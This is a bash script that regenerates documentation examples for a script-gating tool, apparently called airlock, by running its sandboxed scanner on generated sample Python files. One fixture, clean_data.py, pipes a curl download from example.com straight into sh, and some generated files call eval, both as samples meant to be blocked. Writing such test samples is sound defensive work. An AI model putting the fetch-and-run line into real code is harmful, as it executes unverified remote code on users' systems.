#!/usr/bin/env bash
# Regenerates the job-summary examples under docs/examples/ from real gate runs:
#   job-summary-pr.md / .png     four scripts a pull request adds: one blocked, one
#                                whose run fails, one high, one clean with plots
#   job-summary-1000.md / .png   1,000 scripts in one run
# Each run is a real `airlock gate` (Bandit and Semgrep in the sandbox image, every
# runnable script executed). The Markdown is then rendered from the run's report.json
# the way the Action renders it on a pull request (links to the PR head's lines and to
# the uploaded workflow artifact; OWNER/REPO and the run/artifact ids are placeholders).
#
# The PNGs: GitHub's own Markdown renderer (cmark-gfm, via PyPI `cmarkgfm`, installed
# into a throwaway venv) turns the Markdown into HTML with a small GitHub-like style
# sheet, and headless Chromium from the sandbox image screenshots it, offline
# (--network none); in the PR example with the collapsed <details> opened. GitHub-only extras (the `> [!WARNING]` alert box colour, emoji
# shortcodes) are not reproduced.
#
# Needs: Docker with airlock-sandbox:local, python3 with venv, ~10 minutes for the
# 1,000-script run on 2 cores. Usage: bash scripts/summary-examples.sh [pr|1000|all]
set -euo pipefail
cd "$(dirname "$0")/.."
repo=$(pwd)
which=${1:-all}
work=$(mktemp -d /tmp/airlock-summary-examples.XXXXXX)
trap 'rm -rf "$work"' EXIT
venv=${AIRLOCK_MD_VENV:-/tmp/airlock-md-venv}
[ -x "$venv/bin/python" ] || { python3 -m venv "$venv" && "$venv/bin/pip" install -q cmarkgfm; }

gate() { # workspace, extra args...; writes under <workspace>/out (the CLI keeps outputs in the workspace)
  local ws=$1; shift
  (cd "$ws" && "$repo/node_modules/.bin/tsx" "$repo/src/cli/index.ts" gate scripts "$@" \
    --out out/artifacts --report out/report.json --sarif out/airlock.sarif --summary out/summary.md) || true
}

render() { # report.json, out.md
  node --import tsx -e '
    import("'"$repo"'/src/report/summary.ts").then(async ({ renderSummary }) => {
      const fs = await import("node:fs");
      const report = JSON.parse(fs.readFileSync(process.argv[1], "utf8"));
      const md = renderSummary(report, {
        blobBase: "https://github.com/OWNER/REPO/blob/0123456789abcdef0123456789abcdef01234567",
        artifactUrl: "https://github.com/OWNER/REPO/actions/runs/1234567890/artifacts/987654321",
      });
      const note = `<!-- Rendered from the report.json of a real airlock gate run by scripts/summary-examples.sh on ${report.finishedAt.slice(0, 10)}, as the Action renders it on a pull request (OWNER/REPO and the run and artifact ids are placeholders). -->\n`;
      fs.writeFileSync(process.argv[2], note + md);
    });' "$1" "$2"
}

screenshot() { # in.md, out.png, height, open the <details> (1) or not (0)
  local html="$work/page.html"
  "$venv/bin/python" - "$1" "$html" "$4" <<'PY'
import sys, cmarkgfm
from cmarkgfm.cmark import Options
md = open(sys.argv[1], encoding="utf-8").read()
body = cmarkgfm.github_flavored_markdown_to_html(md, options=Options.CMARK_OPT_UNSAFE)
css = """body{font:14px/1.5 -apple-system,'Segoe UI','Noto Sans',Helvetica,Arial,sans-serif;color:#1f2328;
max-width:1180px;margin:24px auto;padding:0 24px}h2,h3{border-bottom:1px solid #d1d9e0;padding-bottom:.3em}
table{border-collapse:collapse;margin:8px 0}td,th{border:1px solid #d1d9e0;padding:4px 10px}tr:nth-child(2n){background:#f6f8fa}
code{background:#eff1f3;border-radius:4px;padding:.15em .3em;font:12px ui-monospace,SFMono-Regular,Menlo,monospace}
pre{background:#f6f8fa;border-radius:6px;padding:12px;overflow:auto}pre code{background:none;padding:0}
blockquote{border-left:4px solid #d1d9e0;color:#59636e;margin:0;padding:0 1em}a{color:#0969da;text-decoration:none}
details{margin:6px 0}summary{cursor:pointer}"""
# Optionally the collapsed <details> opened, as after a click.
js = "document.querySelectorAll('details').forEach(d => d.open = true)" if sys.argv[3] == "1" else ""
open(sys.argv[2], "w", encoding="utf-8").write(
  f"<!doctype html><meta charset=utf-8><style>{css}</style><div class=markdown-body>{body}</div><script>{js}</script>")
PY
  chmod 0777 "$work"; chmod 0644 "$html"
  # The image has no colour-emoji font: the host's (Debian fonts-noto-color-emoji), if any, read-only.
  local emoji=/usr/share/fonts/truetype/noto/NotoColorEmoji.ttf fontmount=()
  [ -f "$emoji" ] && fontmount=(-v "$emoji:/usr/share/fonts/truetype/emoji/NotoColorEmoji.ttf:ro")
  docker run --rm --network none --read-only --tmpfs /tmp -e HOME=/tmp "${fontmount[@]}" -v "$work:/page" airlock-sandbox:local \
    chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --hide-scrollbars \
      --window-size=1280,"$3" --screenshot=/page/shot.png file:///page/page.html >/dev/null 2>&1
  cp "$work/shot.png" "$2"
}

if [ "$which" = pr ] || [ "$which" = all ]; then
  ws="$work/pr"; mkdir -p "$ws/scripts"
  cat >"$ws/scripts/clean_data.py" <<'PY'
"""Cleans the sales data (generated): fetches a cleaning helper with a shell pipe."""
import subprocess

import pandas as pd

df = pd.DataFrame({"region": ["north", "south"], "units": [3, 5]})
subprocess.run("curl -s https://example.com/clean.sh | sh", shell=True)
df.to_csv("clean.csv")
PY
  cat >"$ws/scripts/load_sales.py" <<'PY'
"""Summarises the sales data (generated): reads a file outside the script's folder."""
import pandas as pd

df = pd.read_csv("../data/sales.csv")
print(df.describe())
PY
  cat >"$ws/scripts/fetch_rates.py" <<'PY'
"""Downloads exchange rates (generated): network access, so it runs restricted."""
import urllib.request

URL = "https://example.com/rates.csv"
try:
    with urllib.request.urlopen(URL, timeout=5) as response:
        print(response.read()[:100])
except OSError as e:
    print(f"no rates: {e}")
PY
  cat >"$ws/scripts/plot_sales.py" <<'PY'
"""Plots units per region (generated): writes a PNG and a CSV to the output dir."""
import csv
import os
from pathlib import Path

import matplotlib.pyplot as plt

out = Path(os.environ["AIRLOCK_OUTPUT_DIR"])
units = {"north": 3, "south": 5, "east": 2, "west": 7}
fig, ax = plt.subplots(figsize=(5, 3))
ax.bar(list(units), list(units.values()))
ax.set_title("Units by region")
fig.tight_layout()
fig.savefig(out / "units.png", dpi=100)
with open(out / "units.csv", "w", newline="") as f:
    csv.writer(f).writerows(units.items())
print("wrote units.png, units.csv")
PY
  gate "$ws"
  render "$ws/out/report.json" docs/examples/job-summary-pr.md
  screenshot docs/examples/job-summary-pr.md docs/examples/job-summary-pr.png 2900 1
fi

if [ "$which" = 1000 ] || [ "$which" = all ]; then
  ws="$work/big"; mkdir -p "$ws/scripts"
  # 1,000 small analysis scripts: most clean or with asserts (low), every 50th reads a
  # URL (high), every 125th evaluates a string (blocked), every 200th divides by zero.
  for i in $(seq -w 0 999); do
    n=$((10#$i)); f="$ws/scripts/analysis_$i.py"
    if (( n % 125 == 7 )); then printf 'expr = "1 + %d"\nprint(eval(expr))\n' "$n" >"$f"
    elif (( n % 200 == 3 )); then printf 'rows = [%d, 0]\nprint(rows[0] / rows[1])\n' "$n" >"$f"
    elif (( n % 50 == 11 )); then printf 'import urllib.request\ntry:\n    urllib.request.urlopen("https://example.com/%d", timeout=2)\nexcept OSError as e:\n    print(e)\n' "$n" >"$f"
    elif (( n % 3 == 0 )); then printf 'rows = [%d, 2, 3]\nassert rows, "no data"\nprint(sum(rows))\n' "$n" >"$f"
    else printf 'rows = [%d, 2, 3]\nprint(sum(rows) / len(rows))\n' "$n" >"$f"; fi
  done
  # The shipped default caps a run at 500 files: this run raises it.
  printf 'version: 1\nextends: default\nlimits:\n  maxFiles: 2000\n' >"$ws/policy.yml"
  gate "$ws" --policy policy.yml
  render "$ws/out/report.json" docs/examples/job-summary-1000.md
  screenshot docs/examples/job-summary-1000.md docs/examples/job-summary-1000.png 2400 0
fi
ls -l docs/examples/
